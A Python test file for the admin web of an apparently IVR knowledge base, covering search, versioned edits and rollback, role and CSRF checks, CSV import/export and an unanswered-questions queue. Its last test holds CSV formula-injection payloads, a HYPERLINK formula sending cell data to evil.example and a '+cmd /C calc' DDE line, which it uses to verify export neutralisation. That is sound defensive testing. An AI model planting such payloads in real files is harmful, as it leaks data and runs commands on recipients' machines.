"""Admin web, knowledge base: list and search, the "try a question" box, the entry form with
versions and rollback, CSV export and import, the unanswered questions; roles and CSRF."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from tests.admin_client import HTML, add_users, signed_in

QUESTION = "I lost my health insurance card, what should I do?"
NEW_ANSWER = "Call the district office first: they print a new card the same day."


def _form(page: str) -> dict[str, str]:
    """The entry form's current values, as a browser would send them back."""
    fields = {
        name: value
        for name, value in re.findall(r'<input[^>]* name="(\w+)" value="([^"]*)"', page)
        if name != "csrf_token"
    }
    for name in ("alternates", "answer"):
        found = re.search(rf'<textarea name="{name}"[^>]*>(.*?)</textarea>', page, re.S)
        assert found, name
        fields[name] = found.group(1)
    chosen = re.search(r'<select name="category".*?<option value="([\w-]+)" selected', page, re.S)
    assert chosen
    fields["category"] = chosen.group(1)
    if re.search(r'name="active" value="1" checked', page):
        fields["active"] = "1"
    return {k: v.replace("&#39;", "'").replace("&amp;", "&") for k, v in fields.items()}


def test_entries_per_language_with_search_category_and_pages(make_ivr: Any) -> None:
    ivr = make_ivr()
    add_users(ivr)
    viewer = signed_in(ivr, "viewer")
    page = viewer.get("/admin/kb?language=en")
    assert page.status_code == 200
    assert "English (166)" in page.text and "Vietnamese (166)" in page.text
    assert "page 1 of 4" in page.text and "card-lost" in page.text
    last = viewer.get("/admin/kb?language=en&page=4")
    assert "page 4 of 4" in last.text and "card-lost" not in last.text
    found = viewer.get("/admin/kb", params={"language": "en", "q": "plastic card"})
    assert "1 entry in English" in found.text and "card-lost" in found.text  # in the answer
    by_alternate = viewer.get("/admin/kb", params={"language": "en", "q": "my card got wet"})
    assert "card-damaged" in by_alternate.text
    vietnamese = viewer.get("/admin/kb", params={"language": "vi", "q": "the bao hiem y te"})
    assert "card-lost" in vietnamese.text  # typed without diacritics
    pensions = viewer.get("/admin/kb?language=en&category=pension")
    assert "category pension" in pensions.text and "card-lost" not in pensions.text
    unknown = viewer.get("/admin/kb?language=fr")
    assert unknown.status_code == 404 and "There is no language" in unknown.text


def test_an_edit_is_a_new_version_the_agent_answers_with_and_can_be_rolled_back(
    make_ivr: Any,
) -> None:
    ivr = make_ivr()
    add_users(ivr)
    supervisor, viewer = signed_in(ivr, "supervisor"), signed_in(ivr, "viewer")
    kb = ivr.services.kb
    ask = {"language": "en", "ask": QUESTION}
    before = supervisor.get("/admin/kb", params=ask)
    assert "The agent would answer" in before.text and "plastic card" in before.text
    entry = "/admin/kb/entry/en/card-lost"
    form = _form(supervisor.get(entry).text)
    assert form["version"] == "1" and form["category"] == "health-card"

    no_token = supervisor.http.post(entry, data={**form, "answer": NEW_ANSWER}, headers=HTML)
    assert no_token.status_code == 403 and "security token" in no_token.text
    refused = viewer.post(entry, {**form, "answer": NEW_ANSWER})
    assert refused.status_code == 403 and "needs the supervisor role" in refused.text
    assert "disabled" in viewer.get(entry).text and "Roll back" not in viewer.get(entry).text

    saved = supervisor.post(entry, {**form, "answer": NEW_ANSWER})
    assert saved.status_code == 303 and saved.headers["location"] == entry + "?saved=2"
    page = supervisor.get(saved.headers["location"]).text
    assert "Saved as version 2." in page and "supervisor" in page
    assert NEW_ANSWER in supervisor.get("/admin/kb", params=ask).text  # rebuilt at once
    hit = kb.best(QUESTION, "en")
    assert hit is not None and hit.answer == NEW_ANSWER  # the agent answers the same
    again = supervisor.post(entry, {**form, "answer": NEW_ANSWER, "version": "2"})
    assert again.headers["location"] == entry  # nothing changed: no new version
    stale = supervisor.post(entry, {**form, "answer": "an older form's text"})
    assert stale.status_code == 409 and "saved version 2 after you opened" in stale.text

    back = supervisor.post(entry + "/rollback", {"version": "1"})
    assert back.status_code == 303 and back.headers["location"] == entry + "?saved=3"
    assert "plastic card" in supervisor.get("/admin/kb", params=ask).text
    assert kb.best(QUESTION, "en").answer.startswith("You do not need the plastic card")
    history = [v.saved_by for v in kb.store.history("card-lost", "en")]
    assert history == ["seed", "supervisor", "supervisor"]
    missing = supervisor.post(entry + "/rollback", {"version": "9"})
    assert missing.status_code == 404 and "has no version 9" in missing.text
    assert viewer.post(entry + "/rollback", {"version": "1"}).status_code == 403
    audit = supervisor.get("/admin").text
    assert "kb-rollback" in audit and "kb-save" in audit


def test_the_form_says_what_is_wrong(make_ivr: Any) -> None:
    ivr = make_ivr()
    add_users(ivr)
    supervisor = signed_in(ivr, "supervisor")
    entry = "/admin/kb/entry/en/card-lost"
    form = _form(supervisor.get(entry).text)
    empty = supervisor.post(entry, {**form, "question": "  ", "answer": ""})
    assert empty.status_code == 422
    assert "Write the question as a caller would ask it." in empty.text
    assert "Write the answer the agent reads out to the caller." in empty.text
    unknown = supervisor.post(entry, {**form, "category": "astrology"})
    assert unknown.status_code == 422 and "There is no category &#39;astrology&#39;" in unknown.text
    long = supervisor.post(entry, {**form, "answer": "word " * 400})
    assert long.status_code == 422 and "The answer is 1999 characters; keep it to 1500" in long.text
    assert ivr.services.kb.store.get("card-lost", "en").version == 1  # none of them saved

    new = {"language": "en", "key": "card-lost", "question": "q?", "answer": "a."}
    taken = supervisor.post("/admin/kb/new", {**new, "category": "health-card"})
    assert (
        taken.status_code == 422 and "There is already an entry &#39;card-lost&#39;" in taken.text
    )
    bad_key = supervisor.post("/admin/kb/new", {**new, "key": "Card Lost!", "category": "general"})
    assert bad_key.status_code == 422 and "lowercase letters, digits and dashes" in bad_key.text
    assert supervisor.get("/admin/kb/entry/en/no-such-topic").status_code == 404


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def _csv(rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def test_csv_export_and_import_round_trip_and_a_bad_line(make_ivr: Any) -> None:
    ivr = make_ivr()
    add_users(ivr)
    supervisor, viewer = signed_in(ivr, "supervisor"), signed_in(ivr, "viewer")
    exported = viewer.get("/admin/kb/export.csv?language=zh")
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    assert "knowledge-base-zh.csv" in exported.headers["content-disposition"]
    rows = _rows(exported.text)
    assert len(rows) == 166 and {r["language"] for r in rows} == {"zh"}

    same = supervisor.post("/admin/kb/import", files={"file": ("zh.csv", _csv(rows))})
    assert same.status_code == 200
    assert "166 rows read from zh.csv: 0 entries new or changed" in same.text
    first = next(r for r in rows if r["key"] == "card-lost")
    first["answer"] = "请带身份证到社保局补办。"
    changed = supervisor.post("/admin/kb/import", files={"file": ("zh.csv", _csv(rows))})
    assert "1 entries new or changed" in changed.text
    assert ivr.services.kb.store.get("card-lost", "zh").answer == "请带身份证到社保局补办。"
    assert (
        viewer.post("/admin/kb/import", files={"file": ("zh.csv", _csv(rows))}).status_code == 403
    )

    rows[0]["answer"] = "一个新的回答"  # a good change, on line 2
    rows[2]["question"] = ""  # line 4
    rows[4]["category"] = "astrology"  # line 6
    bad = supervisor.post("/admin/kb/import", files={"file": ("zh.csv", _csv(rows))})
    assert bad.status_code == 422 and "Nothing was imported." in bad.text
    assert "line 4:" in bad.text and "the question is empty" in bad.text
    assert rows[0]["answer"] != ivr.services.kb.store.get(rows[0]["key"], "zh").answer
    rows[2]["question"] = "一个问题"
    only_category = supervisor.post("/admin/kb/import", files={"file": ("zh.csv", _csv(rows))})
    assert only_category.status_code == 422
    assert f"line 6: {rows[4]['key']} (zh): There is no category" in only_category.text
    not_text = supervisor.post("/admin/kb/import", files={"file": ("x.csv", b"\xff\xfe\x00k")})
    assert not_text.status_code == 422 and "not UTF-8 text" in not_text.text
    no_file = supervisor.post("/admin/kb/import", files={"file": ("", b"")})
    assert no_file.status_code == 422 and "Choose a CSV file" in no_file.text


def test_an_unanswered_question_becomes_an_entry_or_is_dismissed(make_ivr: Any) -> None:
    ivr = make_ivr()
    add_users(ivr)
    supervisor, viewer = signed_in(ivr, "supervisor"), signed_in(ivr, "viewer")
    store = ivr.services.kb.store
    store.record_unanswered("call-1", "en", "can my dog be insured", "card-lost", 0.12)
    store.record_unanswered("call-2", "en", "my number is 0912345678 call me", None, None)
    listed = viewer.get("/admin/kb/unanswered")
    assert listed.status_code == 200 and "2 new questions, newest first" in listed.text
    assert "0912345678" not in listed.text  # masked when recorded
    assert listed.text.index("call me") < listed.text.index("can my dog")
    assert "make an entry" not in listed.text  # viewers read only
    dog, number = (q.id for q in store.unanswered("new"))
    assert viewer.post(f"/admin/kb/unanswered/{dog}/dismiss").status_code == 403

    form = supervisor.get(f"/admin/kb/new?unanswered={dog}")
    assert form.status_code == 200 and 'value="can my dog be insured"' in form.text
    assert 'value="health-card" selected' in form.text  # the nearest entry's category
    entry = {
        "language": "en",
        "key": "pet-insurance",
        "question": "can my dog be insured",
        "alternates": "insurance for pets\ndo you cover animals",
        "answer": "Social health insurance covers people only, not pets.",
        "category": "general",
        "tags": "pets, animals",
        "active": "1",
        "unanswered": str(dog),
    }
    assert supervisor.http.post("/admin/kb/new", data=entry, headers=HTML).status_code == 403
    saved = supervisor.post("/admin/kb/new", entry)
    assert saved.status_code == 303
    assert saved.headers["location"] == "/admin/kb/entry/en/pet-insurance?saved=1"
    assert [q.id for q in store.unanswered("added")] == [dog]
    tried = supervisor.get("/admin/kb", params={"language": "en", "ask": "is my dog insured"})
    assert "covers people only, not pets" in tried.text
    created = store.get("pet-insurance", "en")
    assert created.tags == ("pets", "animals") and created.saved_by == "supervisor"

    gone = supervisor.get(f"/admin/kb/new?unanswered={dog}")
    assert gone.status_code == 404 and "not on the unanswered list any more" in gone.text
    dismissed = supervisor.post(f"/admin/kb/unanswered/{number}/dismiss")
    assert dismissed.status_code == 303
    assert "0 new questions" in supervisor.get("/admin/kb/unanswered").text
    assert "1 dismissed question" in supervisor.get("/admin/kb/unanswered?status=dismissed").text
    assert supervisor.post("/admin/kb/unanswered/999/dismiss").status_code == 404


def test_a_question_can_be_added_to_its_nearest_entry(make_ivr: Any) -> None:
    ivr = make_ivr()
    add_users(ivr)
    supervisor = signed_in(ivr, "supervisor")
    store = ivr.services.kb.store
    store.record_unanswered("call-3", "en", "my plastic card fell in the river", "card-lost", 0.3)
    (question,) = store.unanswered("new")
    page = supervisor.get(f"/admin/kb/entry/en/card-lost?unanswered={question.id}")
    form = _form(page.text)
    assert form["alternates"].endswith("my plastic card fell in the river")
    assert supervisor.post("/admin/kb/entry/en/card-lost", form).status_code == 303
    assert "my plastic card fell in the river" in store.get("card-lost", "en").alternates
    assert store.unanswered("new") == [] and len(store.unanswered("added")) == 1


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_the_export_neutralises_formulas_and_imports_back_unchanged(make_ivr: Any) -> None:
    """A cell a spreadsheet would run (=, +, -, @, tab, CR first) is exported with a leading
    single quote; importing the file back drops it, so nothing changes."""
    ivr = make_ivr()
    add_users(ivr)
    supervisor = signed_in(ivr, "supervisor")
    entry = {
        "language": "en",
        "key": "formula-test",
        "category": "general",
        "question": '=HYPERLINK("http://evil.example/?"&A1,"card")',
        "alternates": "+cmd /C calc!A0\n@SUM(1+1)",
        "answer": "-2+3 is what the spreadsheet would show.",
        "tags": "@tag, plain",
        "active": "1",
    }
    assert supervisor.post("/admin/kb/new", entry).status_code == 303
    for query in ("?language=en", ""):
        exported = supervisor.get("/admin/kb/export.csv" + query)
        rows = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_START)], query
        ours = next(dict(zip(rows[0], row, strict=True)) for row in rows if "formula-test" in row)
        assert ours["question"] == "'" + entry["question"]
        assert ours["alternates"] == "'+cmd /C calc!A0|@SUM(1+1)"
        assert ours["answer"] == "'-2+3 is what the spreadsheet would show."
        assert ours["tags"] == "'@tag;plain"
    again = supervisor.post("/admin/kb/import", files={"file": ("en.csv", exported.content)})
    assert again.status_code == 200 and "0 entries new or changed" in again.text
    saved = ivr.services.kb.store.get("formula-test", "en")
    assert saved.question == entry["question"] and saved.tags == ("@tag", "plain")
    assert saved.version == 1
